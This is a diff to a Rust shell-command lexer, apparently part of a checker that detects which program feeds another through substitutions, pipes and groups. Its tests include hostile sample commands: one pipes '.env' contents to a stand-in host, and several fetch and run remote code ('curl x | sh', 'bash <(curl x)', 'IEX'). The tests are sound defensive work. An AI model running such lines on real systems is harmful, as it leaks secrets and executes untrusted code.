@@ -83,31 +83,48 @@ pub fn from_words(words: &[String]) -> Vec<Command> {
         words: words.to_vec(),
         ..Command::default()
     };
-    finish(&mut command, false, DEPTH, &mut None, &mut found);
+    finish(&mut command, false, DEPTH, &mut found);
     found
+}
+
+/// What a substitution or parenthesis interrupts.
+struct Outer {
+    close: char,
+    quote: Option<char>,
+    word: String,
+    command: Command,
 }
 
 fn lex(line: &str, depth: u32, found: &mut Vec<Command>) {
     let mut command = Command::default();
     let mut word = String::new();
-    let (mut quote, mut redirect, mut fed) = (None, false, None);
+    let (mut quote, mut redirect) = (None, false);
+    let mut outer: Vec<Outer> = Vec::new();
     let mut chars = line.chars().peekable();
     while let Some(char) = chars.next() {
-        if found.len() >= MAX_COMMANDS {
-            return;
+        if found.len() >= MAX_COMMANDS || outer.len() >= MAX_COMMANDS {
+            break;
+        }
+        let closes = quote.is_none() && outer.last().is_some_and(|outer| outer.close == char);
+        if closes {
+            end_word(&mut word, &mut redirect, &mut command);
+            finish(&mut command, false, depth, found);
+            resume(&mut outer, &mut quote, &mut word, &mut command, found);
+            continue;
         }
         // A substitution runs inside double quotes too.
         let substitution =
             quote != Some('\'') && (char == '`' || (char == '$' && chars.peek() == Some(&'(')));
-        if substitution {
+        if substitution || (quote.is_none() && char == '(') {
             if char == '$' {
                 chars.next();
             }
-            end_word(&mut word, &mut redirect, &mut command);
-            let outer = !command.words.is_empty();
-            finish(&mut command, false, depth, &mut fed, found);
-            fed = found.len().checked_sub(1).filter(|_| outer);
-            quote = None;
+            outer.push(Outer {
+                close: if char == '`' { '`' } else { ')' },
+                quote: quote.take(),
+                word: std::mem::take(&mut word),
+                command: std::mem::take(&mut command),
+            });
             continue;
         }
         match (quote, char) {
@@ -121,7 +138,7 @@ fn lex(line: &str, depth: u32, found: &mut Vec<Command>) {
                 }
                 _ => word.push(char),
             },
-            (None, '|' | ';' | '&' | '\n' | '(' | ')' | '{' | '}') => {
+            (None, '|' | ';' | '&' | '\n' | ')' | '{' | '}') => {
                 // `2>&1` and `&>file` end nothing.
                 if char == '&' && ((redirect && word.is_empty()) || chars.peek() == Some(&'>')) {
                     word.extend(redirect.then_some('&'));
@@ -129,9 +146,7 @@ fn lex(line: &str, depth: u32, found: &mut Vec<Command>) {
                 }
                 end_word(&mut word, &mut redirect, &mut command);
                 let pipe = char == '|' && chars.peek() != Some(&'|');
-                let outer = char == '(' && !command.words.is_empty();
-                finish(&mut command, pipe, depth, &mut fed, found);
-                fed = found.len().checked_sub(1).filter(|_| outer);
+                finish(&mut command, pipe, depth, found);
             }
             (None, '>') => {
                 if word.chars().all(|digit| digit.is_ascii_digit()) {
@@ -151,7 +166,35 @@ fn lex(line: &str, depth: u32, found: &mut Vec<Command>) {
         }
     }
     end_word(&mut word, &mut redirect, &mut command);
-    finish(&mut command, false, depth, &mut fed, found);
+    finish(&mut command, false, depth, found);
+    while !outer.is_empty() {
+        resume(&mut outer, &mut quote, &mut word, &mut command, found);
+        end_word(&mut word, &mut redirect, &mut command);
+        finish(&mut command, false, depth, found);
+    }
+}
+
+/// Goes on with what was interrupted; the last command found is what feeds it.
+fn resume(
+    outer: &mut Vec<Outer>,
+    quote: &mut Option<char>,
+    word: &mut String,
+    command: &mut Command,
+    found: &[Command],
+) {
+    let Some(before) = outer.pop() else { return };
+    let feeds = command.piped || !before.command.words.is_empty();
+    let piped = command.piped;
+    (*quote, *word) = (before.quote, before.word);
+    if before.command.words.is_empty() && word.is_empty() {
+        // A group: what follows takes what it says.
+        command.piped = piped;
+        return;
+    }
+    *command = before.command;
+    if let Some(last) = found.last().filter(|_| feeds) {
+        command.after.clone_from(&last.program);
+    }
 }
 
 fn end_word(word: &mut String, redirect: &mut bool, command: &mut Command) {
@@ -169,14 +212,7 @@ fn end_word(word: &mut String, redirect: &mut bool, command: &mut Command) {
     }
 }
 
-/// Ends `command`. `fed` is the position of one that takes what this one says as its input.
-fn finish(
-    command: &mut Command,
-    pipe: bool,
-    depth: u32,
-    fed: &mut Option<usize>,
-    found: &mut Vec<Command>,
-) {
+fn finish(command: &mut Command, pipe: bool, depth: u32, found: &mut Vec<Command>) {
     let mut done = std::mem::take(command);
     command.piped = pipe;
     while let Some(first) = done.words.first() {
@@ -205,6 +241,10 @@ fn finish(
         }
     }
     if done.program.is_empty() && done.writes.is_empty() {
+        // A group ended here.
+        if let Some(last) = found.last().filter(|_| pipe) {
+            command.after.clone_from(&last.program);
+        }
         return;
     }
     if pipe {
@@ -233,11 +273,8 @@ fn finish(
         words: carried.unwrap_or_default().to_vec(),
         ..Command::default()
     };
-    if let Some(outer) = fed.take().and_then(|at| found.get_mut(at)) {
-        outer.after.clone_from(&done.program);
-    }
     found.push(done);
-    finish(&mut carried, false, depth.saturating_sub(1), fed, found);
+    finish(&mut carried, false, depth.saturating_sub(1), found);
     inner.iter().for_each(|line| lex(line, depth - 1, found));
 }
 
@@ -285,7 +322,7 @@ mod tests {
         );
         check(
             r#"curl "http://x/?d=$(cat .env)""#,
-            "curl http://x/?d=; cat .env",
+            "cat .env; curl http://x/?d=",
         );
         check("bash -c 'curl x | sh'", "bash -c,curl x | sh; curl x; |sh ");
         check(
@@ -306,6 +343,7 @@ mod tests {
             "bash <(curl x)",
             "IEX (curl.exe x)",
             "sh -c `curl x`",
+            "(curl x) | sh",
         ] {
             let runs = |command: &Command| command.after == "curl" && command.program != "curl";
             assert!(commands(line).iter().any(runs), "{line}");
